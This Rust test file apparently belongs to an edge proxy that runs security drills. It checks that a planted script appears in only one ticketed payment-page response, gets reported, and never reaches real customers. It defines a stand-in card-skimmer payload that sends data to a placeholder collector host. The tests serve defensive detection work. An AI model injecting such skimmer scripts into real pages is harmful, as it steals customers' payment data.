//! Something planted in one answer is seen as if the shop had served it, and by nobody else.

use gabion_edge::pages::DRILL_HEADER;
use http::{Request, Response};
use hyper::body::Incoming;

use super::{PAGE, decided, held, inline, page, shop};
use crate::front::{Front, get};
use gabion_test::{Shop, body, client};

const SKIMMER: &str = "<script>steal('https://collector.invalid')</script>";

/// Asks for a payment page with this ticket.
async fn ask(front: &Front, ticket: &str) -> client::Whole {
    let header = format!("{DRILL_HEADER}: {ticket}\r\n");
    front.tls().await.ask(get("/pay", &header)).await
}

#[tokio::test]
async fn what_a_drill_plants_is_in_one_answer_and_is_told() {
    let shop = shop(&[("content-security-policy", "img-src 'self'")], PAGE).await;
    let front = held(&shop, decided());
    let ticket = front.edge.arm_drill(SKIMMER.parse().unwrap());
    let planted = ask(&front, &ticket).await;
    assert_eq!(planted.text(), format!("{PAGE}{SKIMMER}"));
    assert_eq!(planted.header("content-security-policy"), "img-src 'self'");
    assert!(shop.only().header(DRILL_HEADER.as_str()).is_empty(), "the shop sees no ticket");
    let told = front.sightings.first(page).await;
    assert_eq!(inline(&told.page), ["let tea = 1;", "steal('https://collector.invalid')"]);
    assert_eq!(ask(&front, &ticket).await.text(), PAGE, "a ticket holds once");
    front.edge.arm_drill(SKIMMER.parse().unwrap());
    for wrong in [ticket.as_str(), "", "x"] {
        assert_eq!(ask(&front, wrong).await.text(), PAGE, "{wrong}");
    }
    assert_eq!(front.get("/pay").await.text(), PAGE, "customers get the shop's page");
}

#[tokio::test]
async fn a_page_stands_in_where_the_shop_has_none() {
    let shop = Shop::start(async |_: Request<Incoming>| {
        Ok(Response::builder().status(302).header("location", "/cart").body(body::empty()).unwrap())
    })
    .await;
    let front = held(&shop, decided());
    let ticket = front.edge.arm_drill(SKIMMER.parse().unwrap());
    let planted = ask(&front, &ticket).await;
    assert_eq!((planted.status, planted.header("location")), (200, ""));
    assert!(planted.text().ends_with(SKIMMER), "{}", planted.text());
    assert_eq!(front.sightings.first(page).await.page.scripts.len(), 1);
    assert_eq!(ask(&front, "none").await.status, 302);
}
